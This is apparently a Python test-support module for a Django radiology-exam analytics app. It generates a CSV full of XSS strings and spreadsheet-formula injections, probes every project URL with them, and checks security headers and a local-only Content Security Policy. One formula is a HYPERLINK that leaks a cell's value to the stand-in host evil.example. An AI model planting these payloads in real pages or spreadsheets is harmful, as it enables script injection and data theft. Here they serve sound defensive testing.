"""The security tests' payload export, the URLconf walked, and header checks.

Names in the payload carry markup and spreadsheet formulas; every URL of the
project is discovered from the URLconf, so new views are covered unasked.
Fixture bodies are plain functions; modules register the ones they use.
"""

import csv
import datetime as dt
import io
import re
import uuid

from django.test import Client
from django.urls import URLPattern, reverse
from django.urls.converters import IntConverter, UUIDConverter

from exams.middleware import CONTENT_SECURITY_POLICY
from tests.app_sessions import multipart
from tests.urlconf import url_patterns

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FILE_PAYLOAD = "'><svg onload=alert(1)>.csv"
# Raw markup that must never reach a page unescaped.
RAW_MARKUP = ("<script>alert(1)", "<img src=x", "<svg onload")
PHYSICIANS = (SCRIPT, FORMULA, "-2+3 MD", "@SUM(A1)", "DOE, JANE MD")
EXAM_NAMES = (BREAKOUT, "+SUM(1,2)", "CT HEAD WO", "XR CHEST 2V")
PRIORITIES = ("STAT", "@cmd", "Routine")
CLASSES = ("ED", "-1+1", "Inpatient")
DAYS = 140  # 20 weeks: enough history for the forecast


def accession(i: int) -> str:
    return f"SECRET{i:05d}"


def payload_export() -> bytes:
    """Two exams a day for 20 weeks; names carry markup and formulas.

    SECRET00000 is signed 20 minutes before it was completed (a negative
    interval) and SECRET00001 is pending.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(
        ["Accession", "Exam Name", "Modality", "Priority", "Patient Class"]
        + ["Ordering Physician", "Order Time", "Complete Time", "Final Time"]
    )
    start = dt.datetime(2025, 1, 6, 8, 0)
    for i in range(DAYS * 2):
        ordered = start + dt.timedelta(days=i // 2, hours=(i % 2) * 9)
        completed = ordered + dt.timedelta(minutes=30 + i % 50)
        final = completed + dt.timedelta(minutes=15 + (i * 7) % 300)
        if i == 0:
            final = completed - dt.timedelta(minutes=20)
        stamp = "%m/%d/%Y %H:%M"
        writer.writerow(
            [
                accession(i),
                EXAM_NAMES[i % len(EXAM_NAMES)],
                ("CT", "XR", "MR")[i % 3],
                PRIORITIES[i % len(PRIORITIES)],
                CLASSES[i % len(CLASSES)],
                PHYSICIANS[i % len(PHYSICIANS)],
                ordered.strftime(stamp),
                completed.strftime(stamp),
                "" if i == 1 else final.strftime(stamp),
            ]
        )
    return out.getvalue().encode("utf-8")


PAYLOAD = payload_export()


def upload(client: Client, content: bytes, name: str) -> dict:
    body, content_type = multipart([(name, content)])
    response = client.generic("POST", "/api/datasets", body, content_type=content_type)
    assert response.status_code == 201, response.content[:500]
    return response.json()


# ---- the URLconf, walked -------------------------------------------------------------


def concrete_url(pattern: URLPattern, *, dataset_id: str, view_id: int) -> str:
    """Return a path for the pattern, its parameters filled with real values."""
    kwargs = {}
    for name, converter in pattern.pattern.converters.items():
        if isinstance(converter, UUIDConverter):
            kwargs[name] = dataset_id
        elif isinstance(converter, IntConverter):
            kwargs[name] = view_id
        else:
            kwargs[name] = accession(2)
    return reverse(pattern.name, kwargs=kwargs)


def all_urls(dataset_id: str = "", view_id: int = 1) -> list[str]:
    dataset_id = dataset_id or str(uuid.uuid4())
    return [
        concrete_url(p, dataset_id=dataset_id, view_id=view_id) for p in url_patterns()
    ]


# Query strings each GET URL is tried with: splits and groupings that put the
# names in tables and charts, and a bad link that echoes its values.
QUERIES = (
    "",
    "split=physician",
    "split=priority&by=patient_class",
    "by=physician&metric=complete_to_final",
    "by=ordering_physician",
    "by=exam_name&period=week",
    "table=boxes&by=physician",
    f"physician={SCRIPT}&period={BREAKOUT}",
)


def get_everything(client: Client, dataset_id: str, view_id: int, suffix: str = ""):
    """Yield (url, response) for every URL with every query string."""
    for url in all_urls(dataset_id, view_id):
        for query in QUERIES:
            full = f"{url}?{query}{suffix}" if query else f"{url}?{suffix.lstrip('&')}"
            yield full, client.get(full.rstrip("?"))


# ---- security headers ----------------------------------------------------------------

LOCAL_SOURCES = {"'self'", "'none'", "'unsafe-inline'", "data:", "blob:"}
SCRIPT_HASH = re.compile(r"'sha256-[A-Za-z0-9+/]+=*'")


def csp_directives(policy: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}


def assert_csp_is_local(policy: str, what: str) -> None:
    """Nothing from another origin; script only from files or by exact hash."""
    directives = csp_directives(policy)
    assert directives["default-src"] in (["'self'"], ["'none'"]), what
    assert directives["frame-ancestors"] == ["'none'"], what
    for sources in directives.values():
        for source in sources:
            assert source in LOCAL_SOURCES or SCRIPT_HASH.fullmatch(source), what
    script = directives.get("script-src", directives["default-src"])
    assert "'unsafe-inline'" not in script and "'unsafe-eval'" not in script, what
    unsafe = [n for n, s in directives.items() if "'unsafe-inline'" in s]
    assert unsafe in ([], ["style-src"]), what  # Plotly sets inline styles


def assert_security_headers(response, what: str) -> None:
    headers = response.headers
    assert headers.get("X-Content-Type-Options") == "nosniff", what
    assert headers.get("X-Frame-Options") == "DENY", what
    assert headers.get("Referrer-Policy") == "same-origin", what
    policy = headers.get("Content-Security-Policy", "")
    assert_csp_is_local(policy, what)
    if "attachment" not in headers.get("Content-Disposition", ""):
        # A downloaded report carries a stricter policy of its own.
        assert policy == CONTENT_SECURITY_POLICY, what
